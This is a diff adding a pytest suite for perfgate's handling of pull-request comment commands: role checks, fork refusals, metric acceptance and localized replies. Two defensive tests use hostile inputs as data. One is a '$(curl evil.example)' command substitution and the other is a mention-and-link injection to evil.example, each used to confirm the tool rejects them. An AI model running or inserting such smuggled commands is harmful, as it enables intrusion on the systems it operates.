@@ -1,0 +1,260 @@
+"""Orders in comments, against a forge on this machine that the official API judges: who is heard, and what is done."""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+from dataclasses import replace
+from typing import Any, Optional
+
+import pytest
+
+from perfgate.config import load_config
+from perfgate.document.history import Acceptance
+from perfgate.errors import PerfgateError, UsageError
+from perfgate.flows.command import CommandRequest, obey
+from perfgate.flows.publish import Doors
+from perfgate.flows.store import open_project_store
+from perfgate.judging.forge.comment import read_state
+from tests.end_to_end.publishing import START, Job
+from tests.fakes.forge import BOT, BOT_TOKEN
+
+WRITTEN = {"created_at": "2026-11-20T10:00:00Z", "updated_at": "2026-11-20T10:00:00Z"}
+
+
+class Order:
+    """A comment on pull request 7, which mallory opened from a fork, and the job it starts."""
+
+    def __init__(self, job: Job, author: str, body: str, **comment: Any) -> None:
+        self.job = job
+        self.outputs = job.folder / "output"
+        user = {"login": author, "type": "User"}
+        issue = {"number": 7, "pull_request": {"url": "https://x.example"}}
+        job.event({"action": "created", "issue": issue, "comment": {"body": body, "user": user, **WRITTEN, **comment}})
+        self.environ = {
+            **job.environ,
+            "GITHUB_EVENT_NAME": "issue_comment",
+            "GITHUB_RUN_ID": "90",
+            "GITHUB_SHA": job.project.base,
+            "GITHUB_OUTPUT": str(self.outputs),
+        }
+
+    def obey(self, token: Optional[str] = BOT_TOKEN, **request: Any) -> str:
+        """Take the order in this process; return what the log says."""
+        said: list[str] = []
+        environ = {**self.environ, **({"GITHUB_TOKEN": token} if token else {})}
+        doors = Doors(environ=environ, say=said.append, sleep=lambda _: None, clock=lambda: START)
+        obey(CommandRequest(**{"root": self.job.root, "key": "default", **request}), doors)
+        return "\n".join(said)
+
+    def told(self) -> dict[str, str]:
+        """Return what the workflow was told."""
+        if not self.outputs.exists():
+            return {}
+        delimited = r"^(\w+)<<(\w+)\n(.*?)\n\2\n"
+        text = self.outputs.read_text()
+        assert re.sub(delimited, "", text, flags=re.DOTALL | re.MULTILINE) == ""
+        return {name: value for name, _, value in re.findall(delimited, text, flags=re.DOTALL | re.MULTILINE)}
+
+
+@pytest.fixture
+def fork(github: Job) -> Job:
+    """A job on a pull request of a fork; who has which role."""
+    github.fake.roles = {"ann": "maintain", "bob": "read", "carl": "triage", "dora": "write", "mallory": "write"}
+    return github
+
+
+@pytest.fixture
+def own(fork: Job) -> Job:
+    """The same pull request, from a branch of the repository itself."""
+    fork.fake.changes[:] = [replace(change, owner="team") for change in fork.fake.changes]
+    return fork
+
+
+def _accepted(job: Job) -> list[Acceptance]:
+    config = load_config(job.root)
+    return open_project_store(config, job.environ).accepted(config.project)
+
+
+@pytest.mark.parametrize("author", ["ann", "dora"])
+def test_run__who_may_push__tells_the_workflow_and_answers(own: Job, author: str) -> None:
+    order = Order(own, author, "/perfgate run encoder\nplease")
+    order.obey()
+    assert order.told() == {
+        "action": "run",
+        "number": "7",
+        "head_sha": own.project.head,
+        "base_sha": own.project.base,
+        "workload": "encoder",
+        "fork": "false",
+    }
+    job_url = f"{own.fake.url}/team/model/actions/runs/90/attempts/1"
+    expected = f"perfgate measures `encoder` of `{own.project.head[:12]}`: [the job]({job_url})\n"
+    assert own.comments() == [expected]
+
+
+@pytest.mark.parametrize("author", ["bob", "carl", "eve", "../collaborators"])
+def test_run__who_may_not_push__is_answered_in_the_log_alone(own: Job, author: str) -> None:
+    order = Order(own, author, "/perfgate run")
+    assert "may not push" in order.obey()
+    assert (order.told(), own.comments()) == ({}, [])
+
+
+@pytest.mark.parametrize(
+    ("body", "comment"),
+    [
+        ("looks good\n/perfgate run", {}),
+        ("/perfgate run", {"user": {"login": "ann", "type": "Bot"}}),
+        ("/perfgate run", {"updated_at": "2026-11-20T10:00:09Z"}),
+        ("/perfgate run", {"user": None}),
+    ],
+)
+def test_run__no_order_or_a_bots_or_edited__nobody_is_asked(own: Job, body: str, comment: Any) -> None:
+    order = Order(own, "ann", body, **comment)
+    assert "Nothing was asked" in order.obey()
+    assert (order.told(), own.comments(), own.fake.calls) == ({}, [], [])
+
+
+def test_run__closed_pull_request__nothing(own: Job) -> None:
+    own.fake.changes[:] = [replace(change, open=False) for change in own.fake.changes]
+    order = Order(own, "ann", "/perfgate run")
+    order.obey()
+    assert (order.told(), own.comments()) == ({}, [])
+
+
+@pytest.mark.parametrize(
+    "body", ["/perfgate run", "/perfgate run {head}", "/perfgate accept {head} * mine", "/perfgate x"]
+)
+def test_fork__its_author_with_a_role__is_refused(fork: Job, body: str) -> None:
+    order = Order(fork, "Mallory", body.format(head=fork.project.head))
+    fork.fake.roles["Mallory"] = "write"
+    order.obey()
+    assert (order.told(), _accepted(fork)) == ({}, [])
+    assert fork.comments() == [
+        "perfgate does nothing: for a pull request from a fork somebody else than its author has to ask\n"
+    ]
+
+
+def test_fork__commit_not_named__is_refused_and_named(fork: Job) -> None:
+    order = Order(fork, "ann", "/perfgate run encoder")
+    order.obey()
+    assert order.told() == {}
+    (reply,) = fork.comments()
+    assert fork.project.head in reply
+    assert "name the commit that you have looked at" in reply
+
+
+def test_fork__commit_named__is_measured(fork: Job) -> None:
+    order = Order(fork, "ann", f"/perfgate run {fork.project.head}")
+    order.obey()
+    assert (order.told()["head_sha"], order.told()["fork"], order.told()["workload"]) == (fork.project.head, "true", "")
+
+
+@pytest.mark.parametrize("body", ["/perfgate run {old}", "/perfgate accept {old} * meant"])
+def test_fork__pushed_since_the_look__is_refused(fork: Job, body: str) -> None:
+    order = Order(fork, "ann", body.format(old=fork.project.older))
+    order.obey()
+    assert (order.told(), _accepted(fork)) == ({}, [])
+    (reply,) = fork.comments()
+    assert fork.project.head in reply
+    assert fork.project.older in reply
+
+
+def test_order__hostile_words__neither_mention_command_nor_link(own: Job) -> None:
+    Order(own, "ann", "/perfgate accept @everyone/x[y](http://evil.example) `/close` #1").obey()
+    (reply,) = own.comments()
+    assert reply == "perfgate does nothing: it knows no metric `@everyone/x[y](http://evil.example)`\n"
+
+
+def test_order__not_understood__is_told_what_there_is(own: Job) -> None:
+    order = Order(own, "ann", "/perfgate run $(curl evil.example)")
+    order.obey()
+    (reply,) = own.comments()
+    assert order.told() == {}
+    assert reply.startswith("perfgate takes `/perfgate run [WORKLOAD]` and `/perfgate accept METRIC REASON`")
+
+
+def test_accept__regression_of_the_measured_commit__judged_again_it_warns(own: Job) -> None:
+    own.measure(ops=64)
+    assert own.publish().returncode == 1
+    own.fake.upload(50, "perfgate-default-1", own.zipped())
+    Order(own, "ann", "/perfgate accept latency.* not this one").obey()
+    comment, reply = own.comments()
+    assert "## perfgate: FAIL" in comment
+    assert reply == f"`latency.*` of `{own.project.head[:12]}` is accepted; the verdict of perfgate is now FAIL\n"
+
+    Order(own, "ann", "/perfgate accept counters.* a wider encoder, `see` @docs").obey()
+    kept = _accepted(own)[0]
+    assert (kept.commit, kept.metric, kept.accepted_by) == (own.project.head, "counters.*", "ann")
+    assert kept.reason == "a wider encoder, `see` @docs"
+    comment, *replies = own.comments()
+    assert "## perfgate: WARN" in comment
+    assert "a wider encoder" in comment
+    state = read_state(comment)
+    assert state is not None
+    assert (state.run, state.attempt, state.verdict) == (50, 1, "WARN")
+    accepted = f"`counters.*` of `{own.project.head[:12]}` is accepted; the verdict of perfgate is now WARN\n"
+    assert replies[-1] == accepted
+    assert own.statuses()[-1] == (own.project.head, "success")
+
+
+def test_accept__commit_not_measured_yet__is_kept_and_waits(own: Job) -> None:
+    Order(own, "ann", "/perfgate accept latency.low meant").obey()
+    assert [one.metric for one in _accepted(own)] == ["latency.low"]
+    assert own.comments() == [
+        f"`latency.low` of `{own.project.head[:12]}` is accepted; it counts as soon as this commit is measured\n"
+    ]
+
+
+def test_accept__comment_is_of_an_earlier_commit__waits(own: Job) -> None:
+    own.measure(ops=64)
+    own.publish()
+    before = own.comments()
+    own.fake.changes[:] = [replace(change, head_sha=own.project.newer) for change in own.fake.changes]
+    Order(own, "ann", "/perfgate accept * meant").obey()
+    assert own.comments()[:-1] == before
+    assert [one.commit for one in _accepted(own)] == [own.project.newer]
+
+
+def test_accept__metric_misspelt__is_told_the_right_one(own: Job) -> None:
+    Order(own, "ann", "/perfgate accept latency.lwo meant").obey()
+    assert _accepted(own) == []
+    assert own.comments() == ["perfgate does nothing: it knows no metric `latency.lwo`; did you mean `latency.low`?\n"]
+
+
+def test_order__in_chinese__is_answered_in_chinese(own: Job) -> None:
+    Order(own, "ann", "/perfgate accept latency.lwo meant").obey(language="zh")
+    assert own.comments() == ["perfgate 未执行：没有指标 `latency.lwo`；是否指 `latency.low`？\n"]
+
+
+def test_order__no_token__says_so(own: Job) -> None:
+    with pytest.raises(UsageError, match="no token in PERFGATE_TOKEN or GITHUB_TOKEN"):
+        Order(own, "ann", "/perfgate run").obey(token=None)
+
+
+def test_order__not_started_by_a_comment__says_so(own: Job) -> None:
+    order = Order(own, "ann", "/perfgate run")
+    order.environ["GITHUB_EVENT_NAME"] = "push"
+    with pytest.raises(PerfgateError, match="issue_comment"):
+        order.obey()
+
+
+def test_command__as_a_process__ends_with_0_and_quotes_the_stranger(own: Job) -> None:
+    order = Order(own, "eve", "/perfgate run")
+    plain = {name: os.environ[name] for name in ("PATH", "HOME", "LANG") if name in os.environ}
+    done = subprocess.run(
+        [sys.executable, "-m", "perfgate", "command"],
+        cwd=own.root,
+        env={**plain, **order.environ, "GITHUB_TOKEN": BOT_TOKEN},
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert (done.returncode, done.stderr) == (0, "")
+    lines = done.stdout.splitlines()
+    assert lines[0] == "Nothing was done."
+    assert lines[1].startswith("::stop-commands::")
+    assert own.fake.comments.get(7, []) == [one for one in own.fake.comments.get(7, []) if one.author == BOT] == []
